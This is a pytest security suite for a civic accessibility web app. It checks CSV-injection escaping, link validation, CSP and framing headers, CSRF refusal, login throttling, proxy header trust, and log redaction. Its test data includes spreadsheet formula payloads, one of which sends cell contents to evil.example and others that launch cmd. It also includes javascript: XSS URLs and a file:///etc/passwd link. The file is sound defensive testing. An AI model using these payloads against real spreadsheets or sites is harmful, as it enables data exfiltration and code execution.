"""Security properties, each tried as an attacker would on the real server and data."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from stufenlos._util import FORMULA_START, csv_frame, csv_safe, csv_unsafe
from stufenlos.api.app import create_app
from stufenlos.api.routes.open311 import report_service
from stufenlos.plan import export as plan_export
from stufenlos.plan import service as plan_service
from stufenlos.settings import SettingsError
from tests._live import free_port, live_process, serve_command

V2 = "/open311/v2"
SECRET = "correct horse battery"
#: what an attacker types into a free-text field to run a formula in a spreadsheet
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Details")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "'=1+1")


@pytest.fixture
def client(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
    url = f"sqlite:///{tmp_path / 'app.sqlite'}"
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("STUFENLOS_DATA_DIR", str(tmp_path / "var"))
    monkeypatch.setenv("STUFENLOS_REPORT_RATE", "1000/minute")
    store = plan_service.PlanStore(url)
    with store.session() as session:
        plan_service.create_editor(session, plan_service.EditorCreate(
            username="anna", secret=SECRET, roles=["edit", "admin"]), actor="t")
    store.close()
    with TestClient(create_app()) as c:
        yield c
    from stufenlos.api.routes import open311

    svc = open311._services.pop(url, None)
    if svc is not None:
        svc.store.close()


def _report(client: TestClient, description: str, *, accept: bool = True, **extra: str) -> dict:
    data = {"service_code": "blocked-sidewalk", "lat": "53.5528", "long": "9.9930",
            "description": description, "jurisdiction_id": "hamburg", **extra}
    r = client.post(f"{V2}/requests.json", data=data)
    assert r.status_code == 201, r.text
    created = r.json()[0]
    if accept:
        report_service().accept(int(created["service_request_id"]), actor="test")
    return created


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a plain number may start with + or -


# -- 1. CSV injection ------------------------------------------------------------------------


def test_csv_safe_quotes_formulas_keeps_numbers_and_round_trips() -> None:
    for text in FORMULAS:
        assert csv_safe(text).startswith("'")
        assert csv_unsafe(csv_safe(text)) == text
    for value in ("-3.5", "+1", "-7e3", "Rampe", "'s-Hertogenbosch", "", -3.5, 7, None):
        assert csv_safe(value) == value
        if isinstance(value, str):
            assert csv_unsafe(value) == value
    frame = pd.DataFrame({"name": ["=1+1", "Altona"], "delta": [-3.5, 2.0]})
    back = pd.read_csv(io.StringIO(csv_frame(frame)))
    assert list(back["name"]) == ["'=1+1", "Altona"]
    assert back["delta"].dtype.kind == "f" and back["delta"].tolist() == [-3.5, 2.0]


def test_report_exports_neutralise_formulas(client: TestClient, tmp_path: Path) -> None:
    for text in FORMULAS:
        _report(client, text, address_string=text)
    r = client.get(f"{V2}/requests.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    _no_formula(rows)
    header = rows[0]
    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert {rec["description"] for rec in records} >= {"'" + FORMULAS[0], "'-2+3"}
    assert all(-90 <= float(rec["lat"]) <= 90 and float(rec["long"]) for rec in records)

    from stufenlos.cli import app

    out = CliRunner().invoke(app, ["reports", "export", "--format", "csv", "--database-url",
                                   f"sqlite:///{tmp_path / 'app.sqlite'}"])
    assert out.exit_code == 0, out.output
    _no_formula(list(csv.reader(io.StringIO(out.stdout))))


def test_plan_csv_export_neutralises_formulas_and_round_trips(client: TestClient,
                                                              tmp_path: Path) -> None:
    for i, text in enumerate(FORMULAS):
        r = client.post("/api/plan/stakeholders", auth=("anna", SECRET),
                        json={"name": f"{text} {i}", "sector": "other"})
        assert r.status_code == 201, r.text
    blob = client.get("/api/plan/export.zip", auth=("anna", SECRET)).content
    with zipfile.ZipFile(io.BytesIO(blob)) as zf:
        for name in zf.namelist():
            _no_formula(list(csv.reader(io.StringIO(zf.read(name).decode()))))
        stakeholders = list(csv.DictReader(io.StringIO(zf.read("stakeholders.csv").decode())))
    assert "'" + FORMULAS[0] + " 0" in {s["name"] for s in stakeholders}
    other = plan_service.PlanStore(f"sqlite:///{tmp_path / 'other.sqlite'}")
    with other.session() as session:
        plan_export.import_csv_zip(session, blob, actor="test")
    with other.session() as session:
        names = {row["name"] for row in plan_export.export_data(session)["tables"]["stakeholders"]}
    other.close()
    assert {f"{text} {i}" for i, text in enumerate(FORMULAS)} <= names


def test_barrier_and_matrix_csv_neutralise_formulas(imported_city, city_base: Path,
                                                     tmp_path: Path) -> None:
    from stufenlos.barriers import BarrierStore, write_city_database
    from stufenlos.cli import app

    hamburg = imported_city("hamburg")
    runner = CliRunner()
    out = runner.invoke(app, ["barriers", "hamburg", "--format", "csv",
                              "--data-dir", str(city_base)])
    assert out.exit_code == 0, out.output
    real = list(csv.DictReader(io.StringIO(out.stdout)))
    assert len(real) > 10 and all(float(r["lon"]) and float(r["lat"]) for r in real)
    # the same records, one of them named by an attacker (OSM names are free text)
    records = BarrierStore(hamburg.database_path).query(limit=20)
    records[0]["name"] = FORMULAS[0]
    write_city_database(tmp_path / "city.sqlite", records, {"city": "hamburg"})
    rows = list(csv.reader(io.StringIO(BarrierStore(tmp_path / "city.sqlite").to_csv())))
    _no_formula(rows)
    assert "'" + FORMULAS[0] in {cell for row in rows for cell in row}

    points = tmp_path / "points.csv"
    points.write_text(f'lat,lon,id\n53.5528,9.9930,"{FORMULAS[0].replace(chr(34), 2 * chr(34))}"\n'
                      "53.5530,9.9940,@SUM(1)\n", encoding="utf-8")
    out = runner.invoke(app, ["matrix", "hamburg", "--origins", str(points), "--destinations",
                              str(points), "--data-dir", str(city_base)])
    assert out.exit_code == 0, out.output
    rows = list(csv.reader(io.StringIO(out.stdout)))
    _no_formula(rows)
    assert rows[1][:2] == ["'" + FORMULAS[0], "'" + FORMULAS[0]] and len(rows) == 5
    assert float(rows[2][2]) > 0  # costs are still numbers


# -- 2. plan links are web addresses -----------------------------------------------------------

BAD_URLS = ("javascript:alert(document.cookie)", "JavaScript:alert(1)",
            "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "//evil.example/x",
            " javascript:alert(1)")


@pytest.mark.parametrize("url", BAD_URLS)
def test_plan_links_must_be_web_addresses(client: TestClient, url: str) -> None:
    auth = ("anna", SECRET)
    before = client.get("/api/plan/export.json").json()
    r = client.patch("/api/plan/milestones/mob-working-group", auth=auth,
                     json={"evidence": [{"label": "Bericht", "url": url}]})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "body.evidence.0.url"
    r = client.post("/api/plan/dialogues", auth=auth, json={
        "slug": "evil", "topic": {"de": "Daten"}, "materials": [{"label": "x", "url": url}]})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "body.materials.0.url"
    r = client.post("/api/plan/bodies/forum/meetings", auth=auth, json={
        "date": "2024-05-02", "title": {"de": "Sitzung"}, "minutes_url": url})
    assert r.status_code == 422 and "minutes_url" in r.json()["errors"][0]["field"]
    assert client.get("/api/plan/export.json").json() == before
    # the editor form says which field is wrong and publishes nothing
    import re

    page = client.get("/plan/edit?lang=en", auth=auth)
    token = re.search(r'name="token" value="([0-9a-f]+)"', page.text).group(1)
    r = client.post("/plan/edit/meeting", auth=auth, data={
        "token": token, "body": "forum", "date": "2024-05-02", "title_en": "Meeting",
        "minutes_url": url})
    assert r.status_code == 422 and "minutes_url" in r.text
    assert client.get("/api/plan/export.json").json() == before


def test_plan_links_accept_web_addresses_and_imports_check_them(client: TestClient,
                                                                 tmp_path: Path) -> None:
    auth = ("anna", SECRET)
    r = client.patch("/api/plan/milestones/mob-working-group", auth=auth, json={
        "evidence": [{"label": "Bericht", "url": "https://example.org/bericht.pdf"}]})
    assert r.status_code == 200, r.text
    data = client.get("/api/plan/export.json").json()
    assert "https://example.org/bericht.pdf" in str(data["tables"]["milestones"])
    data["tables"]["milestones"][0]["evidence"] = [{"label": "x", "url": "javascript:alert(1)"}]
    store = plan_service.PlanStore(f"sqlite:///{tmp_path / 'other.sqlite'}")
    with pytest.raises(plan_export.PlanImportError, match="evidence"), store.session() as s:
        plan_export.import_data(s, data, actor="test")
    store.close()


# -- 3. Content-Security-Policy and framing ----------------------------------------------------


class _Inline(HTMLParser):
    """Collects what a strict CSP blocks: inline scripts/styles and handler attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.blocked: list[str] = []
        self.nonces: list[str | None] = []
        self._tag: tuple[str, dict[str, str | None]] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        self.blocked += [f"{tag} {k}=" for k in a if k == "style" or k.startswith("on")]
        self.blocked += [f"{tag} href={a['href']}" for k in a
                         if k == "href" and (a["href"] or "").startswith("javascript:")]
        self._tag = (tag, a)

    def handle_data(self, data: str) -> None:
        if self._tag is None or not data.strip():
            return
        tag, a = self._tag
        if tag == "style" or (tag == "script" and "src" not in a
                              and a.get("type") != "application/json"):
            self.nonces.append(a.get("nonce"))

    def handle_endtag(self, tag: str) -> None:
        self._tag = None


PAGES = ("/", "/planner?lang=en", "/barriers", "/reports", "/reports/new", "/moderation",
         "/plan", "/plan/dialogues", "/catalog", "/analysis", "/docs", "/kiosk/hamburg",
         "/planner/print?from=53.5528,9.9930&to=53.5533,9.9960")


def test_pages_send_a_strict_csp_and_need_no_inline_code(client: TestClient,
                                                         imported_city, city_base: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    imported_city("hamburg")
    monkeypatch.setenv("STUFENLOS_DATA_DIR", str(city_base))
    monkeypatch.setenv("STUFENLOS_MAP_STYLE_URL", "https://tiles.example.org/styles/base.json")
    with TestClient(create_app()) as c:
        for path in (*PAGES, "/analysis/hamburg", "/api/cities", "/openapi.json"):
            r = c.get(path)
            assert r.status_code == 200, (path, r.status_code)
            csp = r.headers["content-security-policy"]
            directives = dict(d.strip().split(" ", 1) for d in csp.split(";"))
            assert directives["frame-ancestors"] == "'none'"
            assert directives["object-src"] == "'none'"
            assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
            assert "blob:" in directives["worker-src"] and "data:" in directives["img-src"]
            assert directives["connect-src"] == "'self' https://tiles.example.org"
            assert r.headers["x-frame-options"] == "DENY"
            assert r.headers["x-content-type-options"] == "nosniff"
            assert r.headers["referrer-policy"] in ("same-origin", "no-referrer")
            if not r.headers["content-type"].startswith("text/html"):
                continue
            page = _Inline()
            page.feed(r.text)
            assert page.blocked == [], (path, page.blocked)
            nonce = directives["script-src"].split("'nonce-")[1].rstrip("'")
            assert all(n == nonce for n in page.nonces), (path, page.nonces)
        assert c.get("/docs").headers["content-security-policy"] != csp  # a nonce per request


def test_only_the_information_pillars_may_be_framed_and_only_by_the_set_origins(
        client: TestClient, imported_city, city_base: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    imported_city("hamburg")
    monkeypatch.setenv("STUFENLOS_DATA_DIR", str(city_base))
    monkeypatch.setenv("STUFENLOS_KIOSK_FRAME_ANCESTORS",
                       "https://info.example, https://bahnhof.example:8443")
    with TestClient(create_app()) as c:
        pillar = c.get("/kiosk/hamburg")
        assert pillar.status_code == 200
        directives = dict(d.strip().split(" ", 1)
                          for d in pillar.headers["content-security-policy"].split(";"))
        assert directives["frame-ancestors"] == (
            "https://info.example https://bahnhof.example:8443")
        assert "x-frame-options" not in pillar.headers  # it could only say DENY or SAMEORIGIN
        for path in ("/", "/moderation", "/reports/new", "/api/cities"):
            r = c.get(path)
            assert "frame-ancestors 'none'" in r.headers["content-security-policy"], path
            assert r.headers["x-frame-options"] == "DENY", path
    for bad in ("info.example", "https://info.example/pillars", "javascript:alert(1)"):
        monkeypatch.setenv("STUFENLOS_KIOSK_FRAME_ANCESTORS", bad)
        with pytest.raises(SettingsError, match="STUFENLOS_KIOSK_FRAME_ANCESTORS"):
            create_app()



# -- 4. cross-site request forgery -------------------------------------------------------------


def test_cross_site_posts_with_a_session_cookie_or_basic_auth_are_refused(
        client: TestClient) -> None:
    svc = report_service()
    token = svc.add_moderator("Moderatorin")
    rid = int(_report(client, "Bauzaun", accept=False)["service_request_id"])
    assert client.post("/moderation/login", data={"token": token}).status_code == 200
    assert "stufenlos_moderator" in client.cookies
    evil = {"Origin": "https://evil.example"}
    for path in (f"/moderation/api/reports/{rid}/accept", f"/moderation/api/reports/{rid}/reject",
                 f"/moderation/api/reports/{rid}/hide", "/moderation/logout"):
        r = client.post(path, data={"reason": "spam", "note": "x"}, headers=evil)
        assert r.status_code == 403 and r.json()["error"] == "CrossSiteRequest", path
    r = client.post(f"/moderation/api/reports/{rid}/accept",
                    headers={"Referer": "https://evil.example/page"})
    assert r.status_code == 403
    r = client.post(f"/moderation/api/reports/{rid}/accept", headers={"Origin": "null"})
    assert r.status_code == 403
    assert svc.get(rid, public=False).status == "submitted"  # nothing changed
    assert [a.action for a in svc.audit_log(report_id=rid)] == ["submit"]
    # the plan editor's Basic credentials are resent by the browser just the same
    before = client.get("/api/plan/export.json").json()
    r = client.post("/api/plan/stakeholders", auth=("anna", SECRET), headers=evil,
                    json={"name": "Evil Corp", "sector": "other"})
    assert r.status_code == 403
    assert client.get("/api/plan/export.json").json() == before
    # the same requests from the site itself, or with a Bearer token from anywhere, work
    host = {"Origin": "http://testserver"}
    r = client.post(f"/moderation/api/reports/{rid}/hide", data={"reason": "spam"}, headers=host)
    assert r.status_code == 200, r.text
    client.cookies.clear()
    r = client.post(f"/moderation/api/reports/{rid}/unhide",
                    headers={**evil, "Authorization": f"Bearer {token}"})
    assert r.status_code == 200
    r = client.post(f"{V2}/requests.json", headers=evil, data={
        "service_code": "other", "lat": "53.5528", "long": "9.9930", "description": "offen"})
    assert r.status_code == 201  # anonymous reports from other sites stay welcome


# -- 5. login throttling and equal work for unknown accounts -----------------------------------


def _statuses(responses: list) -> list[int]:
    return [r.status_code for r in responses]


def test_wrong_moderator_tokens_and_editor_secrets_are_throttled(client: TestClient) -> None:
    token = report_service().add_moderator("Moderatorin")
    mod_id = token.split(".")[0]
    bearer = [client.get("/moderation/api/queue",
                         headers={"Authorization": f"Bearer {mod_id}.wrong{i}"})
              for i in range(15)]
    assert _statuses(bearer)[:10] == [401] * 10 and set(_statuses(bearer)[10:]) == {429}
    assert int(bearer[-1].headers["retry-after"]) >= 1
    # the client is locked out, even with the right token, until the window moves on
    assert client.get("/moderation/api/queue",
                      headers={"Authorization": f"Bearer {token}"}).status_code == 429
    assert client.post("/moderation/login", data={"token": token}).status_code == 429


def test_login_form_is_throttled(client: TestClient) -> None:
    form = [client.post("/moderation/login", data={"token": f"1.wrong{i}"}) for i in range(15)]
    assert 429 in _statuses(form) and set(_statuses(form)) == {401, 429}


def test_basic_auth_is_throttled(client: TestClient) -> None:
    good = client.get("/plan/edit", auth=("anna", SECRET))
    assert good.status_code == 200  # successes do not count
    basic = [client.get("/plan/edit", auth=("anna", f"guess {i}")) for i in range(15)]
    assert _statuses(basic)[:10] == [401] * 10 and set(_statuses(basic)[10:]) == {429}
    assert basic[-1].headers["retry-after"]
    r = client.post("/api/plan/stakeholders", auth=("anna", SECRET),
                    json={"name": "Verein", "sector": "other"})
    assert r.status_code == 429


def _median_s(call, n: int = 7) -> float:
    import statistics
    import time

    times = []
    for _ in range(n):
        t0 = time.perf_counter()
        call()
        times.append(time.perf_counter() - t0)
    return statistics.median(times)


def test_unknown_accounts_take_as_long_as_known_ones(tmp_path: Path) -> None:
    from stufenlos.reports import ReportService, ReportStore
    from stufenlos.reports.errors import AuthenticationError

    svc = ReportService(ReportStore(f"sqlite:///{tmp_path / 'r.sqlite'}"))
    mod_id = svc.add_moderator("Kim").split(".")[0]

    def refused(token: str) -> None:
        with pytest.raises(AuthenticationError):
            svc.authenticate_token(token)

    refused("999.warm-up")
    known = _median_s(lambda: refused(f"{mod_id}.wrong-secret"))
    unknown = _median_s(lambda: refused("999.wrong-secret"))
    garbage = _median_s(lambda: refused("not-a-token"))
    assert 0.5 < unknown / known < 2 and 0.5 < garbage / known < 2, (known, unknown, garbage)

    store = plan_service.PlanStore(f"sqlite:///{tmp_path / 'p.sqlite'}")
    with store.session() as s:
        plan_service.create_editor(s, plan_service.EditorCreate(username="anna", secret=SECRET),
                                   actor="t")

    def wrong(name: str) -> None:
        with store.session() as s, pytest.raises(plan_service.AuthenticationError):
            plan_service.authenticate(s, name, "wrong secret!")

    wrong("nobody")
    known = _median_s(lambda: wrong("anna"))
    unknown = _median_s(lambda: wrong("nobody"))
    store.close()
    assert 0.5 < unknown / known < 2, (known, unknown)


# -- 6. X-Forwarded-For only from trusted proxies ----------------------------------------------


def _flag_as(client: TestClient, rid: int, forwarded_for: str) -> int:
    r = client.post(f"{V2}/requests/{rid}/flags.json", data={"reason": "spam"},
                    headers={"X-Forwarded-For": forwarded_for})
    return r.status_code


def test_forwarded_for_is_ignored_unless_the_peer_is_a_trusted_proxy(
        client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    rid = int(_report(client, "Bauzaun")["service_request_id"])
    # a client that makes up addresses stays one client: its flags count once
    for i in range(4):
        assert _flag_as(client, rid, f"203.0.113.{i}") == 200
    assert report_service().get(rid).hidden is False
    monkeypatch.setenv("STUFENLOS_TRUSTED_PROXIES", "127.0.0.1, 10.0.0.0/8")
    with TestClient(create_app(), client=("10.1.2.3", 4711)) as proxied:
        rid = int(_report(proxied, "Baustelle")["service_request_id"])
        for i in range(3):  # behind a trusted proxy, the forwarded address is the client
            assert _flag_as(proxied, rid, f"198.51.100.{i}") == 200
    with pytest.raises(LookupError):
        report_service().get(rid)  # three different clients flagged it: hidden
    monkeypatch.setenv("STUFENLOS_TRUSTED_PROXIES", "10.0.0.0/33")
    from stufenlos.settings import SettingsError, get_settings

    with pytest.raises(SettingsError, match="STUFENLOS_TRUSTED_PROXIES"):
        get_settings()



# -- 7. characters XML forbids; ids beyond 64 bits ---------------------------------------------


def test_xml_illegal_characters_cannot_break_the_xml_feed(client: TestClient) -> None:
    import xml.etree.ElementTree as ET

    nasty = "Bauzaun\uffff vor\x01 dem\ufffe Eingang\x0b\x1f"
    _report(client, nasty, address_string="Jungfernstieg\x0c 1")
    r = client.get(f"{V2}/requests.xml")
    root = ET.fromstring(r.content)
    assert root.find("request/description").text == "Bauzaun vor dem Eingang"
    assert root.find("request/address").text == "Jungfernstieg 1"
    # rendering is defensive too: a stored value from before the fix still parses
    svc = report_service()
    rid = int(root.find("request/service_request_id").text)
    with svc.store.session() as s:
        from stufenlos.reports.models import Report

        s.get(Report, rid).description = "alt\uffff\x02"
    ET.fromstring(client.get(f"{V2}/requests.xml").content)
    ET.fromstring(client.get(f"{V2}/requests/{rid}.xml").content)


BIG = "99999999999999999999"


def test_ids_beyond_64_bits_are_404_json(client: TestClient, imported_city, city_base: Path,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    imported_city("hamburg")
    monkeypatch.setenv("STUFENLOS_DATA_DIR", str(city_base))
    token = report_service().add_moderator("Moderatorin")
    bearer = {"Authorization": f"Bearer {token}"}
    for method, path in (("GET", f"{V2}/requests/{BIG}.json"), ("GET", f"/reports/{BIG}"),
                         ("POST", f"/reports/{BIG}/confirm"), ("POST", f"/reports/{BIG}/flag"),
                         ("GET", f"/moderation/api/reports/{BIG}"),
                         ("POST", f"/moderation/api/reports/{BIG}/accept"),
                         ("GET", f"/ogc/collections/hamburg-reports/items/{BIG}"),
                         ("GET", f"{V2}/media/{BIG}.jpg"),
                         ("PATCH", f"/api/plan/stakeholders/{BIG}"),
                         ("PATCH", f"/api/plan/cocreation/{BIG}")):
        plan = "/plan/" in path
        r = client.request(method, path, headers=None if plan else bearer,
                           auth=("anna", SECRET) if plan else None,
                           json={"name": "x"} if plan else None)
        assert r.status_code == 404, (path, r.status_code, r.text)
        assert r.headers["content-type"].startswith("application/json"), path
    ok = client.get(f"/ogc/collections/hamburg-reports/items/{BIG[:5]}")
    assert ok.status_code == 404 and "no feature" in ok.json()["detail"]  # the city is there


# -- 8. logs without addresses or tokens; private database files -------------------------------


def test_live_server_logs_no_client_address_or_token_and_keeps_its_files_private(
        imported_city, tmp_path: Path) -> None:
    import re
    import stat

    import httpx

    from stufenlos.reports import ReportService, ReportStore

    def mode(path: Path) -> int:
        return stat.S_IMODE(path.stat().st_mode)

    assert mode(imported_city("hamburg").database_path) == 0o600
    data = tmp_path / "var"
    port = free_port()
    env = {"STUFENLOS_DATA_DIR": str(data), "STUFENLOS_REPORT_RATE": "100/minute",
           "DATABASE_URL": None, "STUFENLOS_TRUSTED_PROXIES": None, "FORWARDED_ALLOW_IPS": None}
    log_path = tmp_path / "server.log"
    base = f"http://127.0.0.1:{port}"
    with (live_process(serve_command(port), port, log_path, env=env),
          httpx.Client(base_url=base, timeout=30) as http):
        r = http.post(f"{V2}/requests.json", data={
            "service_code": "other", "lat": "53.5528", "long": "9.9930",
            "description": "Bauzaun", "jurisdiction_id": "hamburg"})
        assert r.status_code == 201, r.text
        token, rid = r.json()[0]["token"], int(r.json()[0]["service_request_id"])
        assert http.get(f"/reports/mine/{token}").status_code == 200
        assert http.get(f"{V2}/tokens/{token}.json").status_code == 200
        db = data / "stufenlos.sqlite"
        for f in (db, db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")):
            assert mode(f) == 0o600, f
        svc = ReportService(ReportStore(f"sqlite:///{db}"))
        svc.accept(rid, actor="test")
        svc.store.close()
        # made-up X-Forwarded-For headers do not make one client three
        for i in range(3):
            assert http.post(f"{V2}/requests/{rid}/flags.json", data={"reason": "spam"},
                             headers={"X-Forwarded-For": f"203.0.113.{i}"}).status_code == 200
        assert http.get(f"{V2}/requests/{rid}.json").status_code == 200  # not hidden
    out = log_path.read_text()
    assert token not in out
    assert "GET /reports/mine/*** 200" in out and f"GET {V2}/tokens/***.json 200" in out
    assert re.search(rf"POST {V2}/requests\.json 201 \d+\.\d ms", out)
    clients = {int(p) for p in re.findall(r"127\.0\.0\.1:(\d+)", out)}
    assert clients <= {port}, out  # the server's own address only, never a client's
